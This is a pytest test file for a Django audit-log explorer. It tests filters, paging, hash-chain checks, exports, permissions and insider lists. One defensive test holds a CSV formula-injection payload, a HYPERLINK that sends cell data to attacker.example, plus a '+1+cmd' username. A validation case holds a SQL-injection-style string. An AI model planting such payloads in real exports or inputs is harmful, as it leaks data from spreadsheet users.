import csv
import io
import json
from datetime import UTC, datetime

import pytest
import time_machine
from django.db import connection
from django.http import StreamingHttpResponse
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from irportal.accounts.roles import COMPLIANCE_REVIEWER, IR_ADMIN, IR_AUTHOR
from irportal.audit import chain
from irportal.audit.health import run_verification
from irportal.audit.models import AuditEntry
from irportal.audit.selectors import PAGE_SIZE
from irportal.audit.services import audit_record
from tests.conftest import audit_guards_lifted
from tests.factories import UserFactory, sign_in

pytestmark = pytest.mark.django_db

LOG = reverse("audit:log")


@pytest.fixture
def reviewer(client):
    user = UserFactory(roles=[COMPLIANCE_REVIEWER], username="reviewer")
    sign_in(client, user)
    return user


def shown_sequences(response) -> list[int]:
    return [entry.sequence for entry in response.context["page"].entries]


def record_release(release_id: str, action: str = "release.edit", **kwargs) -> AuditEntry:
    return audit_record(
        action=action,
        object_type="releases.release",
        object_id=release_id,
        object_label=f"Release {release_id}",
        **kwargs,
    )


def streamed(response) -> bytes:
    assert isinstance(response, StreamingHttpResponse)
    return b"".join(response.streaming_content)


# The explorer page


def test_explorer_lists_newest_first_and_records_the_opening(client, reviewer):
    for n in range(3):
        audit_record(action="auth.logout", data={"n": n})
    response = client.get(LOG)
    assert response.status_code == 200
    opening = AuditEntry.objects.get(action="audit.log_view")
    assert (opening.actor_id, opening.data) == (reviewer.pk, {"view": "list"})
    # the reviewer's own sign-in is #1, the three entries #2-#4; this opening (#5) shows from the next page view
    assert shown_sequences(response) == [4, 3, 2, 1]
    assert opening.sequence == 5


def test_explorer_records_the_filters_it_was_opened_with(client, reviewer):
    client.get(LOG, {"action": "auth.login", "q": "x"})
    assert AuditEntry.objects.get(action="audit.log_view").data == {"view": "list", "action": "auth.login", "q": "x"}


def test_filter_by_actor_username(client, reviewer):
    author = UserFactory(username="alice")
    audit_record(action="auth.login", actor=author)
    audit_record(action="auth.login", actor=UserFactory())
    response = client.get(LOG, {"actor": "alice"})
    assert [e.actor_label for e in response.context["page"].entries] == ["alice"]


def test_filter_by_system_actor(client, reviewer):
    audit_record(action="release.publish", object_type="releases.release", object_id="1")
    response = client.get(LOG, {"actor": "system"})
    assert [e.action for e in response.context["page"].entries] == ["release.publish"]


def test_filter_by_action_family(client, reviewer):
    record_release("1", "release.create")
    record_release("1", "release.submit")
    audit_record(action="auth.login")
    response = client.get(LOG, {"action": "release.*"})
    assert [e.action for e in response.context["page"].entries] == ["release.submit", "release.create"]


def test_filter_by_object(client, reviewer):
    record_release("7")
    record_release("8")
    response = client.get(LOG, {"object_type": "releases.release", "object_id": "7"})
    assert [e.object_id for e in response.context["page"].entries] == ["7"]


def test_filter_by_utc_date_range(client, reviewer):
    for day in (1, 2, 3):
        with time_machine.travel(datetime(2026, 3, day, 23, 30, tzinfo=UTC), tick=False):
            record_release(str(day))
    response = client.get(LOG, {"since": "2026-03-02", "until": "2026-03-02"})
    assert [e.object_id for e in response.context["page"].entries] == ["2"]


def test_filter_by_date_and_time(client, reviewer):
    for hour in (10, 12):
        with time_machine.travel(datetime(2026, 3, 1, hour, 0, tzinfo=UTC), tick=False):
            record_release(str(hour))
    response = client.get(LOG, {"since": "2026-03-01 11:00", "until": "2026-03-01T23:59:59Z"})
    assert [e.object_id for e in response.context["page"].entries] == ["12"]


def test_free_text_searches_labels_and_data(client, reviewer):
    record_release("1", data={"comment": "please fix the dateline"})
    record_release("2", data={"comment": "fine"})
    response = client.get(LOG, {"q": "DATELINE"})
    assert [e.object_id for e in response.context["page"].entries] == ["1"]


def test_free_text_finds_action_labels(client, reviewer):
    record_release("1", "release.approve")
    record_release("1", "release.edit")
    response = client.get(LOG, {"q": "approved"})
    assert [e.action for e in response.context["page"].entries] == ["release.approve"]


@pytest.mark.parametrize(
    ("params", "field", "message"),
    [
        ({"since": "yesterday"}, "since", "Enter a date as YYYY-MM-DD"),
        ({"until": "2026-02-30"}, "until", "Enter a date as YYYY-MM-DD"),
        ({"since": "2026-03-05", "until": "2026-03-01"}, "until", "must be after its start"),
        ({"object_type": "Robert'); DROP TABLE"}, "object_type", "Use app.model"),
        ({"object_id": "5"}, "object_type", "Give the object type too"),
        ({"action": "release.teleport"}, "action", "Select a valid choice"),
        ({"q": "x" * 201}, "q", "at most 200 characters"),
        ({"actor": "a" * 151}, "actor", "at most 150 characters"),
    ],
)
def test_malformed_filters_are_form_errors_not_errors_of_the_server(client, reviewer, params, field, message):
    response = client.get(LOG, params)
    assert response.status_code == 400
    assert message in " ".join(response.context["form"].errors[field])
    assert message.split("'")[0] in response.content.decode()


@pytest.mark.parametrize("params", [{"before": "abc"}, {"after": "-1"}, {"before": "1", "after": "2"}])
def test_malformed_page_position_is_a_form_error(client, reviewer, params):
    response = client.get(LOG, params)
    assert response.status_code == 400
    assert "The page position in the address is not valid" in response.content.decode()


def test_malformed_filter_is_not_recorded_as_an_opening(client, reviewer):
    client.get(LOG, {"since": "nonsense"})
    assert not AuditEntry.objects.filter(action="audit.log_view").exists()


# Keyset paging


@pytest.fixture
def many_entries():
    return [record_release("1", "release.comment", data={"n": n}).sequence for n in range(2 * PAGE_SIZE + 10)]


def test_pages_follow_each_other_without_gaps(client, reviewer, many_entries):
    seen = []
    response = client.get(LOG, {"action": "release.comment"})
    while True:
        seen += shown_sequences(response)
        older = response.context["page"].older
        if older is None:
            break
        response = client.get(LOG, {"action": "release.comment", "before": older})
    assert seen == many_entries[::-1]


def test_newer_link_goes_back_to_the_previous_page(client, reviewer, many_entries):
    first = client.get(LOG, {"action": "release.comment"})
    second = client.get(LOG, {"action": "release.comment", "before": first.context["page"].older})
    back = client.get(LOG, {"action": "release.comment", "after": second.context["page"].newer})
    assert shown_sequences(back) == shown_sequences(first)
    assert f"before={first.context['page'].older}" in back.content.decode()


def test_deep_page_costs_the_same_queries_as_the_first(client, reviewer, many_entries):
    with CaptureQueriesContext(connection) as first:
        client.get(LOG)
    with CaptureQueriesContext(connection) as deep:
        client.get(LOG, {"before": 5})
    assert len(deep) == len(first)
    paging = [q["sql"] for q in deep.captured_queries if "ORDER BY" in q["sql"] and '"sequence" <' in q["sql"]]
    assert len(paging) == 1
    assert "OFFSET" not in paging[0]


# Entry page and object history


def test_entry_page_shows_before_and_after_request_context_and_hashes(client, reviewer):
    from irportal.audit.context import RequestContext, activate, deactivate

    token = activate(RequestContext(ip="192.0.2.44", user_agent="Firefox/140", request_id="req-abcdef12"))
    try:
        entry = record_release("3", changes={"headline": {"before": "Old words", "after": "New words"}})
    finally:
        deactivate(token)
    response = client.get(reverse("audit:entry", args=[entry.sequence]))
    page = response.content.decode()
    for text in ("Old words", "New words", "192.0.2.44", "Firefox/140", "req-abcdef12", entry.entry_hash):
        assert text in page
    assert entry.prev_hash in page
    assert "matches the content" in page


def test_entry_page_shows_an_altered_entry(client, reviewer):
    entry = record_release("3")
    with audit_guards_lifted() as cursor:
        cursor.execute("UPDATE audit_auditentry SET object_label = 'forged' WHERE sequence = %s", [entry.sequence])
    response = client.get(reverse("audit:entry", args=[entry.sequence]))
    assert "does not match its entry hash" in response.content.decode()


def test_opening_an_entry_is_recorded(client, reviewer):
    entry = record_release("3")
    client.get(reverse("audit:entry", args=[entry.sequence]))
    assert AuditEntry.objects.get(action="audit.log_view").data == {"view": "entry", "sequence": entry.sequence}


def test_unknown_entry_is_a_404(client, reviewer):
    assert client.get(reverse("audit:entry", args=[999999])).status_code == 404


def test_object_history_shows_only_that_object(client, reviewer):
    record_release("5", "release.create")
    record_release("6", "release.create")
    record_release("5", "release.submit")
    response = client.get(reverse("audit:object", args=["releases.release", "5"]))
    assert response.status_code == 200
    assert [e.action for e in response.context["page"].entries] == ["release.submit", "release.create"]
    assert "Release 5" in response.content.decode()
    assert reverse("audit:insider_list", args=["releases.release", "5"]) in response.content.decode()


def test_object_history_with_a_malformed_type_is_a_404(client, reviewer):
    assert client.get("/compliance/audit/object/not-a-type/5/").status_code == 404


def test_object_history_offers_an_export_of_that_object(client, reviewer):
    record_release("5")
    response = client.get(reverse("audit:object", args=["releases.release", "5"]))
    assert "export.jsonl?object_type=releases.release&amp;object_id=5" in response.content.decode()


# Chain health


def test_page_says_when_the_chain_was_never_verified(client, reviewer):
    assert "has not been verified yet" in client.get(LOG).content.decode()


def test_page_shows_the_last_good_verification_and_checkpoint(client, reviewer):
    from irportal.audit.checkpoint import write_checkpoint

    audit_record(action="auth.login")
    checkpoint = write_checkpoint()
    run_verification(source="schedule")
    page = client.get(LOG).content.decode()
    assert "Chain intact" in page
    at = datetime.fromisoformat(checkpoint.at)
    written = f'<time datetime="{at.isoformat()}">{at:%Y-%m-%d %H:%M:%S} UTC</time>'
    assert f"Last checkpoint: #{checkpoint.sequence} at {written}" in page


def test_failed_verification_is_an_alarm_on_the_page(client, reviewer):
    for _ in range(3):
        audit_record(action="auth.login")
    with audit_guards_lifted() as cursor:
        cursor.execute("UPDATE audit_auditentry SET actor_label = 'someone else' WHERE sequence = 2")
    run_verification(source="schedule")
    response = client.get(LOG)
    assert 'data-testid="chain-alarm"' in response.content.decode()
    assert "entry #2 was altered" in response.content.decode()


# Exports


def test_jsonl_export_carries_every_hashed_field_and_the_hash(client, reviewer):
    entry = record_release("9", data={"headline": "Zürich dateline"})
    response = client.get(reverse("audit:export_jsonl"), {"action": "release.edit"})
    header, *lines = streamed(response).decode("utf-8").splitlines()
    assert json.loads(header)["filters"] == {"action": "release.edit"}
    first = json.loads(lines[0])
    assert set(first) == {*chain.HASHED_FIELDS, "entry_hash"}
    assert first["entry_hash"] == entry.entry_hash
    assert chain.entry_hash(first) == entry.entry_hash
    assert lines[0].encode("utf-8") == chain.canonical_json(first)
    assert response["Content-Disposition"].startswith('attachment; filename="audit-log-filtered-action-release.edit-')


def test_export_ends_with_its_own_record(client, reviewer):
    audit_record(action="auth.login")
    lines = streamed(client.get(reverse("audit:export_jsonl"))).decode().splitlines()
    last = json.loads(lines[-1])
    assert (last["action"], last["actor_id"], last["data"]) == ("audit.export", reviewer.pk, {"format": "jsonl"})
    assert [json.loads(line)["sequence"] for line in lines] == [1, 2, 3]


def test_export_follows_the_filters(client, reviewer):
    record_release("1")
    record_release("2")
    body = streamed(client.get(reverse("audit:export_jsonl"), {"object_type": "releases.release", "object_id": "2"}))
    header, *entries = body.decode().splitlines()
    assert json.loads(header)["export"] == "filtered"
    assert [json.loads(line)["object_id"] for line in entries] == ["2"]
    export = AuditEntry.objects.get(action="audit.export")
    assert export.data == {"format": "jsonl", "object_type": "releases.release", "object_id": "2"}


def test_csv_export_has_a_header_and_the_hash_fields(client, reviewer):
    entry = record_release("4", changes={"headline": {"before": "a", "after": "b"}})
    body = streamed(client.get(reverse("audit:export_csv"), {"action": "release.edit"})).decode("utf-8")
    reader = csv.reader(io.StringIO(body))
    [said] = next(reader)
    assert said.startswith("# IR Portal audit log filtered by action=release.edit")
    rows = list(csv.DictReader(io.StringIO(body.split("\r\n", 1)[1])))
    assert len(rows) == 1
    assert rows[0]["sequence"] == str(entry.sequence)
    assert rows[0]["entry_hash"] == entry.entry_hash
    assert rows[0]["prev_hash"] == entry.prev_hash
    assert json.loads(rows[0]["changes"]) == {"headline": {"before": "a", "after": "b"}}


def test_export_with_a_malformed_filter_is_a_form_error(client, reviewer):
    response = client.get(reverse("audit:export_csv"), {"until": "31/12/2026"})
    assert response.status_code == 400
    assert not AuditEntry.objects.filter(action="audit.export").exists()


@pytest.mark.parametrize("url_name", ["audit:export_csv", "audit:export_jsonl", "audit:insiders"])
def test_an_author_cannot_export_and_the_attempt_is_recorded(client, url_name):
    author = UserFactory(roles=[IR_AUTHOR])
    sign_in(client, author)
    assert client.get(reverse(url_name)).status_code == 403
    denial = AuditEntry.objects.get(action="security.permission_denied")
    assert denial.actor_id == author.pk


def test_viewing_without_the_export_permission_hides_and_refuses_export(client):
    from django.contrib.auth.models import Permission

    user = UserFactory()
    user.user_permissions.add(Permission.objects.get(codename="view_auditentry"))
    sign_in(client, user)
    assert "export.jsonl" not in client.get(LOG).content.decode()
    assert client.get(reverse("audit:export_jsonl")).status_code == 403


def test_ir_admin_can_export(client):
    sign_in(client, UserFactory(roles=[IR_ADMIN]))
    assert client.get(reverse("audit:export_jsonl")).status_code == 200


def test_explorer_pages_have_no_form_that_changes_anything(client, reviewer):
    entry = record_release("1")
    for url in (LOG, reverse("audit:entry", args=[entry.sequence]), reverse("audit:insiders")):
        page = client.get(url).content.decode()
        forms = page.count("<form")
        # Besides the filters (GET): signing out and choosing the console's language, which change only the
        # reader's own session, never the record.
        own_session = page.count(f'action="{reverse("accounts:logout")}"') + page.count(
            f'action="{reverse("accounts:language")}"'
        )
        assert forms == page.count('method="get"') + own_session


# Insider lists


def release_access(user, object_id="11", view="edit"):
    return audit_record(
        action="release.access",
        actor=user,
        object_type="releases.release",
        object_id=object_id,
        object_label="Fourth-quarter results",
        data={"view": view, "roles": [IR_AUTHOR]},
    )


def test_insider_list_page_shows_each_person_and_is_recorded(client, reviewer):
    release_access(UserFactory(username="insider-one"))
    response = client.get(reverse("audit:insider_list", args=["releases.release", "11"]))
    page = response.content.decode()
    assert "insider-one" in page
    assert "Open: the item is not published yet" in page
    opened = AuditEntry.objects.get(action="audit.insider_list_view")
    assert opened.data == {"object_type": "releases.release", "object_id": "11"}


def test_closed_insider_list_says_so(client, reviewer):
    release_access(UserFactory(username="insider-one"))
    record_release("11", "release.publish")
    page = client.get(reverse("audit:insider_list", args=["releases.release", "11"])).content.decode()
    assert "Closed at publication" in page


def test_insider_list_csv_export(client, reviewer):
    release_access(UserFactory(username="insider-one"), view="preview")
    response = client.get(reverse("audit:insider_list_csv", args=["releases.release", "11"]))
    rows = list(csv.DictReader(io.StringIO(streamed(response).decode("utf-8"))))
    assert [(r["username"], r["insider_type"], r["views"], r["list_status"]) for r in rows] == [
        ("insider-one", "accessed", "preview", "open (unpublished)"),
        # Compliance reviewers may open every unpublished release: permanent insiders.
        ("reviewer", "permanent", "", "open (unpublished)"),
    ]
    assert rows[0]["first_access_utc"].endswith("Z")
    exported = AuditEntry.objects.get(action="audit.insider_list_export")
    assert exported.data["format"] == "csv"


def test_insider_list_of_an_unknown_kind_is_a_404(client, reviewer):
    assert client.get(reverse("audit:insider_list", args=["auth.user", "1"])).status_code == 404


def test_insider_index_links_every_list(client, reviewer):
    release_access(UserFactory())
    page = client.get(reverse("audit:insiders")).content.decode()
    assert reverse("audit:insider_list", args=["releases.release", "11"]) in page
    assert "Fourth-quarter results" in page


def test_insider_list_csv_neutralises_formula_cells(client, reviewer):
    # A headline is typed by staff; a spreadsheet must show it as text, not run it.
    formula = '=HYPERLINK("http://attacker.example/?"&A1,"Open")'
    audit_record(
        action="release.access",
        actor=UserFactory(username="+1+cmd"),
        object_type="releases.release",
        object_id="12",
        object_label=formula,
        data={"view": "edit", "roles": [IR_AUTHOR]},
    )
    response = client.get(reverse("audit:insider_list_csv", args=["releases.release", "12"]))
    rows = list(csv.DictReader(io.StringIO(streamed(response).decode("utf-8"))))
    assert [row["object_label"] for row in rows] == ["'" + formula, "'" + formula]
    assert rows[0]["username"] == "'+1+cmd"


def test_a_filtered_export_is_named_and_headed_by_its_filters(client, reviewer):
    record_release("4")
    params = {"action": "release.edit", "since": "2026-01-01"}
    for url_name, stem in [
        ("audit:export_jsonl", "audit-log-filtered-action-release.edit-since-2026-01-01-"),
        ("audit:export_csv", "audit-log-filtered-action-release.edit-since-2026-01-01-"),
        ("audit:export_csv_spreadsheet", "audit-log-spreadsheet-safe-filtered-action-release.edit-since-2026-01-01-"),
    ]:
        response = client.get(reverse(url_name), params)
        assert response["Content-Disposition"].startswith(f'attachment; filename="{stem}'), url_name
        first = streamed(response).decode().splitlines()[0]
        assert "filtered by action=release.edit, since=2026-01-01" in first, url_name
    whole = client.get(reverse("audit:export_jsonl"))
    assert whole["Content-Disposition"].startswith('attachment; filename="audit-log-2')
    assert json.loads(streamed(whole).decode().splitlines()[0])["sequence"] == 1


def test_the_checkpoints_and_their_public_key_download_for_the_reviewer(client, reviewer):
    from irportal.audit import signing
    from irportal.audit.checkpoint import checkpoint_path, write_checkpoint

    write_checkpoint()
    checkpoints = client.get(reverse("audit:checkpoints"))
    assert checkpoints.status_code == 200
    assert checkpoints["Content-Disposition"].startswith('attachment; filename="audit-checkpoints-')
    assert "no-store" in checkpoints["Cache-Control"]
    assert streamed(checkpoints) == checkpoint_path().read_bytes()
    key = client.get(reverse("audit:checkpoint_key"))
    assert key["Content-Disposition"].startswith('attachment; filename="audit-checkpoint-key-')
    assert streamed(key).decode() == signing.public_key_pem()
    downloads = AuditEntry.objects.filter(action="audit.checkpoints_download", actor_id=reviewer.pk)
    assert sorted(downloads.values_list("data__file", flat=True)) == ["checkpoints", "public key"]
    page = client.get(LOG).content.decode()
    assert reverse("audit:checkpoints") in page and reverse("audit:checkpoint_key") in page
    assert signing.fingerprint() in page


def test_no_checkpoint_yet_is_a_404(client, reviewer):
    assert client.get(reverse("audit:checkpoints")).status_code == 404


def test_an_author_cannot_download_the_checkpoints_and_the_attempt_is_recorded(client):
    author = UserFactory(roles=[IR_AUTHOR])
    sign_in(client, author)
    assert client.get(reverse("audit:checkpoints")).status_code == 403
    assert AuditEntry.objects.filter(action="security.permission_denied", actor_id=author.pk).exists()
